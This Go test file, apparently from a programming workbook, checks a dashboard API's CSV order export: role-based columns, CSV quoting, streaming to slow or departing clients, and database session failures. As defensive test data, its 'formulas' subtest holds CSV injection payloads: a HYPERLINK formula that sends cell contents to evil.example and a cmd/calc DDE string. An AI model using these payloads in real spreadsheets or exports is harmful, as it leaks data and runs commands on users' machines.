package dashboard_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/require"

	dashboard "workbook/exercises/07-projects/02-dashboard-api"
	"workbook/exercises/internal/dbtest"
	"workbook/exercises/internal/fault"
	"workbook/exercises/internal/patience"
	"workbook/exercises/internal/wire"
)

var orderFields = []string{"id", "placed_at", "customer", "note", "revenue", "paid"}

// mayReadOrder is the table of the README, with the first letters of the roles.
var mayReadOrder = map[string]string{"id": "afmv", "placed_at": "afmv", "customer": "af", "note": "am", "revenue": "afmv", "paid": "afmv"}

// orderColumns are those of the export for a role.
func orderColumns(role string) []string {
	return slices.DeleteFunc(slices.Clone(orderFields), func(f string) bool { return !strings.Contains(mayReadOrder[f], role[:1]) })
}

// noted stores an order with a note, one item and one payment.
func (b *business) noted(note string, cents, paid int64) int64 {
	b.order(b.rand.Time(time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)), []int64{cents}, []int64{paid})
	id := b.orders[len(b.orders)-1].id
	b.Exec(`UPDATE orders SET note = $2 WHERE id = $1`, id, note)
	return id
}

// table reads an export: the names of its columns, and its lines by them.
func table(t testing.TB, a wire.Answer) (names []string, lines []map[string]string) {
	t.Helper()
	media, _ := a.ContentType(t)
	require.Equalf(t, "text/csv", media, "The media type of an export.\n%s", a.Story())
	rows, err := csv.NewReader(strings.NewReader(a.Body)).ReadAll()
	require.NoErrorf(t, err, "An export is CSV by RFC 4180: with as many cells in each line, and with quotes where a text needs them.\n%s", a.Story())
	require.NotEmptyf(t, rows, "An export has a header row, even when there are no orders.\n%s", a.Story())
	for _, row := range rows[1:] {
		line := map[string]string{}
		for i, cell := range row {
			line[rows[0][i]] = endsOfLines.Replace(cell)
		}
		lines = append(lines, line)
	}
	return rows[0], lines
}

// endsOfLines makes one of all that there are: each will do, but one there must be.
var endsOfLines = strings.NewReplacer("\r\n", "\n", "\r", "\n")

// whole counts the orders of an export up to where it is no CSV any more.
func whole(a wire.Answer) int {
	for r, n := csv.NewReader(strings.NewReader(a.Body)), 0; ; n++ {
		if _, err := r.Read(); err != nil {
			return max(n-1, 0)
		}
	}
}

func (b *business) export(why string, u user) (wire.Answer, []string, []map[string]string) {
	b.t.Helper()
	a := b.ask(b.Server, why, u, "GET", b.path("/export.csv"), "", 200)
	names, lines := table(b.t, a)
	return a, names, lines
}

func TestExport(t *testing.T) {
	t.Run("orders_of_all_kinds", func(t *testing.T) {
		s := open(t)
		b, other := s.business(ann, "Europe/Madrid"), s.business(bob, "Asia/Kolkata")
		_, names, lines := b.export("There are no orders", ann)
		require.Equal(t, orderFields, names, "The header row for an admin, who may read all.")
		require.Empty(t, lines, "There are no orders.")
		at := time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)
		for items := range 4 {
			for payments := range 3 {
				b.order(at.Add(time.Duration(s.rand.Between(-1e6, 1e6))*time.Second), slices.Repeat([]int64{s.rand.Between(1, 9e9)}, items), slices.Repeat([]int64{s.rand.Between(-5e9, 5e9)}, payments))
				other.order(at, []int64{1}, []int64{1})
			}
		}
		b.order(at, []int64{5}, []int64{3, -8})
		b.order(at, nil, nil) // stored as the last one, and the first by its id
		last := len(b.orders) - 1
		b.Exec(`UPDATE orders SET id = 7 WHERE id = $1`, b.orders[last].id)
		b.orders[last].id = 7
		b.orders = append(b.orders[last:], b.orders[:last]...)
		_, _, lines = b.export("Orders have from no to three items, and from no to two payments, some of them refunds", ann)
		require.Len(t, lines, len(b.orders), "The export has each order of the tenant once, and no other one.")
		for i, o := range b.orders {
			var revenue, paid int64
			for _, cents := range o.items {
				revenue += cents
			}
			for _, cents := range o.payments {
				paid += cents
			}
			placed, err := time.Parse(time.RFC3339Nano, lines[i]["placed_at"])
			require.NoErrorf(t, err, "placed_at is a moment as in RFC 3339: %v", lines[i])
			require.Truef(t, placed.Equal(o.at), "placed_at is %s, and the order was placed at %s.", placed, o.at)
			delete(lines[i], "placed_at")
			require.Equal(t, map[string]string{"id": fmt.Sprint(o.id), "customer": fmt.Sprint(o.customer), "note": "", "revenue": fmt.Sprint(revenue), "paid": fmt.Sprint(paid)}, lines[i],
				"The orders, by id. One with %d items and %d payments:", len(o.items), len(o.payments))
		}
	})
	notes := func(name, why string, texts ...[2]string) {
		t.Run(name, func(t *testing.T) {
			s := open(t)
			b := s.business(ann, "Europe/Madrid")
			for _, x := range texts {
				b.noted(x[0], 7, -5)
			}
			a, _, lines := b.export("Customers have written notes", ann)
			require.Lenf(t, lines, len(texts), "The export has each order once.\n%s", a.Story())
			for i, x := range texts {
				require.Equalf(t, endsOfLines.Replace(x[1]), lines[i]["note"], "%s. The note in the database is %q; in the export:", why, x[0])
				require.Equalf(t, "-5", lines[i]["paid"], "A refund was larger than the payment. A number is no text: whoever reads the export can add it up.\n%s", a.Story())
			}
		})
	}
	same := func(text string) [2]string { return [2]string{text, text} }
	quoted := func(text string) [2]string { return [2]string{text, "'" + text} }
	notes("formulas", "A note that begins with =, +, -, @, a tab, a carriage return or a line feed has a ' before it, so that a spreadsheet takes it for a text",
		quoted("=1+1"), quoted(`=HYPERLINK("https://evil.example/?"&A1;"click")`), quoted("+1+cmd|' /C calc'!A0"), quoted("-2+3"), quoted("@SUM(A1:A9)"), quoted("\t=1+1"), quoted("\r=1+1"), quoted("\n=1+1"), quoted("="), quoted("-"))
	notes("other_texts", "A note that is no formula comes letter for letter",
		same("two = 1+1"), same("a+b-c@d.example"), same("'quoted'"), same(`she said "hi", and left; then`), same(`"`), same(`""`), same("two\nlines\r\nor three,\n"), same("one\rtwo"), same(" spaces "), same(`\.`), same("NULL"), same("ñandú 🦤"), same("12\t34"), same(""))

	for _, role := range allRoles {
		t.Run("columns_of_"+role, func(t *testing.T) {
			s := open(t)
			b, u := s.business(ann, "Europe/Madrid"), ann
			if role != "admin" {
				u = bob
				s.join(b.tenant, ann, bob, role)
			}
			canary, customer := s.rand.Canary(), s.rand.Between(1e14, 9e14)
			id := b.noted(canary, 7, 7)
			b.Exec(`UPDATE orders SET customer_id = $2 WHERE id = $1`, id, customer)
			a, names, lines := b.export("A member with the role "+role, u)
			require.Equalf(t, orderColumns(role), names, "The columns that a member with the role %s may read.\n%s", role, a.Story())
			require.Len(t, lines, 1, "There is one order.")
			for field, value := range map[string]string{"customer": fmt.Sprint(customer), "note": canary} {
				if slices.Contains(names, field) {
					require.Equalf(t, value, lines[0][field], "The %s of the order.", field)
				} else {
					require.NotContainsf(t, a.Head+a.Body, value, "A member with the role %s may not read the %s of an order, in no part of the answer", role, field)
				}
			}
			control := a.CacheControl(t)
			_, private := control["private"]
			_, none := control["no-store"]
			require.Truef(t, private || none, "Cache-Control keeps caches that serve several users away, by private or no-store.\n%s", a.Story())
		})
	}
	t.Run("who_may", func(t *testing.T) {
		s := open(t)
		b := s.business(ann, "Europe/Madrid")
		b.noted("a note", 7, 7)
		s.tenant(bob)
		s.ask(s.Server, "Nobody knows who sends the request", user{}, "GET", b.path("/export.csv"), "", 401)
		s.ask(s.Server, "The user is an admin of another tenant", bob, "GET", b.path("/export.csv"), "", 404)
	})
	t.Run("the_policy", func(t *testing.T) {
		for _, role := range append(allRoles, "", "owner") {
			for _, field := range append(orderFields, "", "price", "Note") {
				for _, action := range []dashboard.Action{dashboard.Read, dashboard.Update, dashboard.Create, dashboard.Delete} {
					for _, tenant := range []int64{1, 2} {
						p, o := dashboard.Principal{Tenant: 1, User: 7, Role: role}, dashboard.Object{Tenant: tenant, Kind: "order", Field: field}
						roles := mayReadOrder[field]
						if field == "" {
							roles = "afmv"
						}
						want := tenant == 1 && action == dashboard.Read && slices.Contains(allRoles, role) && strings.Contains(roles, role[:1])
						require.Equalf(t, want, dashboard.Can(p, action, o).Allowed, "The table says who may read an order, and each field of one; nobody may do anything else to it.\n\n\tCan(%+v, %q, %+v)\n\nAllowed is", p, action, o)
					}
				}
			}
		}
	})
}

const (
	many     = 8000
	manySize = 1000     // bytes of each note
	mayTake  = 5 << 20  // by the README
	first    = 64 << 10 // what a client reads before it stops
)

// large is a tenant with many orders, and a copy of the program with its
// application_name. Count is what the copy has read from the database.
func (s *site) large(name string, options ...dbtest.Option) (b *business, server *wire.Server, count *atomic.Int64) {
	s.t.Helper()
	b, count = s.business(ann, "Europe/Madrid"), &atomic.Int64{}
	s.Exec(fmt.Sprintf(`INSERT INTO orders SELECT n, %d, n %% 99, timestamptz '2026-01-01 12:00+00' - n * interval '1 min', rpad(md5(n::text), %d, md5((-n)::text)) FROM generate_series(1, %d) AS n`, b.ID, manySize, many))
	s.Exec(`ANALYZE orders`)
	return b, s.start(name, append(options, counting(count))...), count
}

// counting counts the bytes that a pool's connections have read. Little is on
// its way to them at a time: the rest has not left the database.
func counting(count *atomic.Int64) dbtest.Option {
	return dbtest.Config(func(c *pgxpool.Config) {
		c.ConnConfig.DialFunc = func(ctx context.Context, network, addr string) (net.Conn, error) {
			conn, err := (&net.Dialer{}).DialContext(ctx, network, addr)
			if small, ok := conn.(interface{ SetReadBuffer(bytes int) error }); ok {
				err = small.SetReadBuffer(first)
			}
			return counted{conn, count}, err
		}
	})
}

type counted struct {
	net.Conn
	count *atomic.Int64
}

func (c counted) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.count.Add(int64(n))
	return n, err
}

// sessions are what those of a copy do that fulfil a condition.
func (s *site) sessions(name, condition string) []string {
	s.t.Helper()
	rows, _ := s.Super().Query(s.t.Context(), `SELECT state || ': ' || left(query, 200) FROM pg_stat_activity WHERE datname = $1 AND application_name = $2 AND `+condition, s.Name(), name)
	list, err := pgx.CollectRows(rows, pgx.RowTo[string])
	require.NoError(s.t, err)
	return list
}

// until polls for something that right code comes to soon. What it has come to is looked at afterwards.
func until(done func() bool) {
	for end := time.Now().Add(patience.Of(30 * time.Second)); !done(); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(end) {
			patience.Lost()
			return
		}
	}
}

// openExport reads the beginning of an export.
func (b *business) openExport(server *wire.Server) *wire.Stream {
	b.t.Helper()
	stream := server.Open(b.t, ann.request("GET", b.path("/export.csv"), ""))
	require.Equalf(b.t, 200, stream.Status, "An admin asks for the export.\n%s", stream.Story())
	stream.Read(b.t, first)
	return stream
}

func TestStream(t *testing.T) {
	t.Run("a_client_that_stops", func(t *testing.T) {
		s := open(t)
		b, server, count := s.large("slow")
		stream := b.openExport(server)
		require.LessOrEqual(t, count.Load(), int64(mayTake), "A client has read the first 64 kB of an export of 8 MB. The program may have taken 5 MB from the database by then; the bytes that it has taken:")
		still, last := 0, int64(-1)
		until(func() bool { // nothing moves any more
			now := count.Load()
			if still++; now != last || len(s.sessions("slow", `state = 'active' AND wait_event_type IS DISTINCT FROM 'Client'`)) > 0 {
				still, last = 0, now
			}
			return still == 20 || now > mayTake
		})
		require.LessOrEqual(t, count.Load(), int64(mayTake), "A client has read the first 64 kB of an export of 8 MB, and reads no further. The program may take 5 MB from the database then; the bytes that it has taken:")
		_, lines := table(t, stream.Rest(t))
		require.Equal(t, many, len(lines), "The client goes on after a while, and gets each order. How many it has got:")
	})
	t.Run("a_client_that_goes_away", func(t *testing.T) {
		s := open(t)
		s.Leaks(t)
		b, server, count := s.large("left")
		b.openExport(server).Close()
		server.Idle(t)
		atWork := func() []string { return s.sessions("left", `state <> 'idle'`) }
		still, last := 0, int64(-1)
		until(func() bool { // or until it is clear that nothing will happen any more
			if still++; count.Load() != last || len(s.sessions("left", `wait_event_type = 'Client'`)) == 0 {
				still, last = 0, count.Load()
			}
			return len(atWork()) == 0 || still == 500
		})
		require.Emptyf(t, atWork(), "A client went away in the middle of an export. What the database does for it ends then; long after that there are still sessions at work.")
	})
	t.Run("the_session_ends", func(t *testing.T) {
		s := open(t)
		b, server, _ := s.large("broken")
		stream := b.openExport(server)
		fault.Kill(t, s.DB, "broken")
		if a := stream.Rest(t); a.Cut == nil {
			require.Equal(t, many, whole(a), "The database ended the session of an export in the middle. What is not whole is cut off: a client that gets its regular end can rely on it. How many orders were in the export, which ended regularly:")
		}
	})
	t.Run("the_session_ends_at_the_beginning", func(t *testing.T) {
		s, steps := open(t), fault.NewSteps(t)
		b, server := s.business(ann, "Europe/Madrid"), s.start("second copy", dbtest.With(steps))
		for range 5 {
			b.noted("a note", 7, 7)
		}
		steps.Count()
		s.ask(server, "Nothing goes wrong", ann, "GET", b.path("/export.csv"), "", 200)
		for n := range steps.Seen() {
			steps.Kill(n + 1)
			a := server.Try(t, ann.request("GET", b.path("/export.csv"), ""))
			if killed := steps.Text(); a.Cut == nil && a.Status < 500 {
				require.Equalf(t, 200, a.Status, "An export ends well, with a 5xx, or in the middle.\n%s", a.Story())
				require.Equalf(t, 5, whole(a), "The database ended the session of an export after\n\n\t%s\n\nWhat is not whole is cut off, or is a 5xx. How many of five orders were in the export, which ended regularly:\n%s", killed, a.Story())
			}
			steps.Count()
			server.Try(t, ann.request("GET", b.path(""), "")) // which finds the dead connection
		}
	})
}
